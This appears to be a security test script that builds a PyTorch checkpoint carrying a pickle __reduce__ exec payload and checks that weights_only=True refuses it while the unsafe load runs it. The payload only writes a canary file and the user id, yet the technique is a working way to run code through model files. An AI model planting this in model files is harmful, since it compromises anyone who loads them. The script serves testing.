"""S7 with torch: a `torch.save` file that runs code when loaded with weights_only=False.

`python torch_payload.py make <file> <canary path>` writes it (pickling only, nothing runs);
`python torch_payload.py load <file>` loads it as a model runtime would: first the safe way
(weights_only=True, which must refuse it), then the unsafe way, which runs the payload. The payload writes
<canary path> and, where /output exists, a marker there. Prints JSON with what happened.
"""

import json
import sys

import torch

PAYLOAD = (
    "import os, pathlib\n"
    "canary = pathlib.Path({canary!r})\n"
    "try:\n"
    "    canary.parent.mkdir(parents=True, exist_ok=True)\n"
    "    canary.write_text('payload executed')\n"
    "except OSError:\n"
    "    pass\n"
    "if os.path.isdir('/output'):\n"
    "    pathlib.Path('/output/torch-payload-ran.txt').write_text(str(os.getuid()))\n"
)


class Payload:
    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (exec, (PAYLOAD.format(canary=self.canary),))


def main(argv: list[str]) -> None:
    if argv[0] == "make":
        torch.save({"weight": torch.zeros(2), "hook": Payload(argv[2])}, argv[1])
        return
    report = {}
    try:
        torch.load(argv[1], weights_only=True)
        report["weights_only"] = "loaded"
    except Exception as exc:
        report["weights_only"] = f"refused: {exc.__class__.__name__}"
    torch.load(argv[1], weights_only=False)
    report["unsafe"] = "loaded"
    print(json.dumps(report))


if __name__ == "__main__":
    main(sys.argv[1:])
